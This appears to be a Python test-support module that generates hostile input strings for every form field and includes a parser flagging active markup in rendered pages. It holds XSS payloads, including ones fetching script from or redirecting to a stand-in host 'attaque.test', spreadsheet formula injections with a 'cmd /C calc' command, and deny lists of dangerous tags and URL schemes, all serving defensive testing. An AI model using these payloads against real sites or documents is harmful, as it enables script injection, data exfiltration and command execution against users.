"""Hostile strings for every field, and a parser that finds active markup in pages.

The strings are in ``hostile_strings.txt``, which explains their notation. With another ``turn``
each string gets another payload.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from html.parser import HTMLParser
from itertools import count
from pathlib import Path

HOST = "attaque.test"
# Dialogs, requests and changes of the page: visible when a browser runs one.
PAYLOADS = (
    "alert(1)",
    "confirm`1`",
    "window.prise=1",
    f"fetch(`//{HOST}/`)",
    f"import(`//{HOST}/a.js`)",
    "document.body.id=`prise`",
    f"top.location=`//{HOST}/`",
)
# Several kinds of harm in one string each.
MIXED_STRINGS = (
    '"><script>alert(1)</script>',
    '=HYPERLINK("http://attaque.test","ici")',
    "a\ud800b\udfff <b>",
    "\u202etxet\u2066 \x00\x1b[31m\ufeffé",
    "👩‍👩‍👧‍👦 {{7*7}} %(reason)s",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
LONG = 200_000
# One kind of harm in each, short enough for any field.
HOSTILE_TEXTS: Mapping[str, str] = {
    "controls": "a\x00\x01b\x07c\x1bd\x7fe\x9f",
    "bidi": "a\u202eb\u2066c\u2069d\u202c",
    "emoji": "👩‍👩‍👧 " * 20,
    "script": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://x";1)+@SUM(1)',
    "blank": " \u00a0\u202f\t ",
    "markdown": "[a](javascript:alert(1)) ![x](http://y) `" + "*_" * 50,
    "zalgo": "e" + "\u0301" * 150,
    "digits": "9" * 150,
    "unicode digits": "²³٣४",
    "template": "{{ 7*7 }}{% if %}{% raw %} %(x)s %s%n {0} ${7} #{7}",
    "xml": "\ufffe\uffff]]>&#0;&amp;",
}
# Too long for most fields, or not decodable.
OVERSIZED_TEXTS: Mapping[str, str | bytes] = {
    "surrogate": "a\ud800b".encode("utf-8", "surrogatepass"),
    "long": "a" * LONG,
    "lines": "a\r\n" * 3_000,
}
_FILE = Path(__file__).with_name("hostile_strings.txt")
_REPEATED = re.compile("⟦(.+?)⟧×([0-9]+)", re.DOTALL)
_ESCAPED = re.compile(r"\\(?:x([0-9a-f]{2})|u([0-9a-f]{4})|U([0-9a-f]{8})|([ntr\\]))")
_PLAIN = {"n": "\n", "t": "\t", "r": "\r", "\\": "\\"}


@dataclass(frozen=True)
class HostileString:
    """A string, named by its group and its position there."""

    name: str
    group: str
    text: str

    @property
    def sent(self) -> bytes:
        """Its bytes, lone surrogates included."""
        return self.text.encode("utf-8", "surrogatepass")


def hostile_strings(turn: int = 0) -> list[HostileString]:
    """Every string of the list, in order; ``turn`` chooses the payloads."""
    strings: list[HostileString] = []
    group, numbers = "", count(1)
    # Only line feeds end a line: other separators are part of the strings.
    for line in _FILE.read_text("utf-8").split("\n"):
        if line.startswith("[") and line.endswith("]") and line[1:-1] in GROUPS:
            group, numbers = line[1:-1], count(1)
        elif line and not (line.startswith("# ") and not group):
            payload = PAYLOADS[(len(strings) + turn) % len(PAYLOADS)]
            strings.append(HostileString(f"{group} {next(numbers)}", group, _expand(line, payload)))
    return strings


def sample_strings(size: int = 1) -> list[HostileString]:
    """Some of each group, always the same ones."""
    strings = hostile_strings()
    sample = []
    for group in GROUPS:
        group_strings = [attack for attack in strings if attack.group == group]
        sample += group_strings[:: max(1, len(group_strings) // size)][:size]
    return sample


def _expand(line: str, payload: str) -> str:
    text = line.replace("§", payload).replace("¤", HOST)
    text = _ESCAPED.sub(_character, text)
    return _REPEATED.sub(lambda match: match[1] * int(match[2]), text)


def _character(match: re.Match[str]) -> str:
    code = match[1] or match[2] or match[3]
    return chr(int(code, 16)) if code else _PLAIN[match[4]]


GROUPS = tuple(
    line[1:-1]
    for line in _FILE.read_text("utf-8").split("\n")
    if re.fullmatch(r"\[[a-zA-Z ]{4,}\]", line) and line not in ("[object Object]", "[TOC]")
)


# --- active markup -----------------------------------------------------------------

# fmt: off
# Elements that no page of the register has.
_FORBIDDEN_TAGS = frozenset({
    "applet", "audio", "base", "bgsound", "embed", "font", "frame", "frameset", "iframe", "image",
    "img", "isindex", "keygen", "marquee", "math", "noembed", "noframes", "object", "picture",
    "plaintext", "source", "style", "template", "track", "video", "xmp", "foreignobject",
    "animate", "set", "use",
})
_URL_ATTRIBUTES = frozenset({
    "action", "background", "cite", "classid", "data", "formaction", "href", "icon", "longdesc",
    "manifest", "ping", "poster", "profile", "src", "srcset", "usemap", "xlink:href",
})
# fmt: on
_ACTIVE_SCHEMES = re.compile(
    "(?:javascript|vbscript|livescript|data|blob|filesystem):", re.IGNORECASE
)
# Ignored by browsers before the scheme of an address.
_IGNORED_CHARACTERS = re.compile("[\x00-\x20\x7f-\xa0\u200b\ufeff]")


class _Watcher(HTMLParser):
    """Collects elements and attributes that could run or fetch something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.active: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        self.active += _element_faults(tag, attributes)
        for name, value in attributes.items():
            self.active += _attribute_faults(tag, name, value)

    def handle_pi(self, data: str) -> None:
        self.active.append(f"<?{data[:60]}>")


def _element_faults(tag: str, attributes: dict[str, str]) -> Iterator[str]:
    # JSON-LD is a data block, not run by browsers.
    is_own_script = attributes.get("src", "").startswith("/static/") or attributes == {
        "type": "application/ld+json"
    }
    if tag in _FORBIDDEN_TAGS or (tag == "script" and not is_own_script):
        yield f"<{tag} {attributes}>"[:160]
    if tag == "meta" and "http-equiv" in attributes:
        yield f"<meta {attributes}>"[:160]
    if tag == "link" and attributes.get("href", "/")[:2] == "//":
        yield f"<link {attributes}>"[:160]
    if tag == "form" and not attributes.get("action", "/").startswith(("/", "#", "?")):
        yield f"<form {attributes}>"[:160]


def _attribute_faults(tag: str, name: str, value: str) -> Iterator[str]:
    address = _IGNORED_CHARACTERS.sub("", value)
    inline = name.startswith("on") or name in ("style", "srcdoc")
    if inline or (name in _URL_ATTRIBUTES and _ACTIVE_SCHEMES.match(address)):
        yield f"<{tag} {name}={value}>"[:160]
    if name in ("href", "src", "action", "formaction") and address[:2] in ("//", "/\\", "\\\\"):
        yield f"<{tag} {name}={value}>"[:160]


def active_markup(page: str) -> list[str]:
    """The elements and attributes of a page or fragment that a browser would run or fetch."""
    watcher = _Watcher()
    watcher.feed(page)
    watcher.close()
    return watcher.active
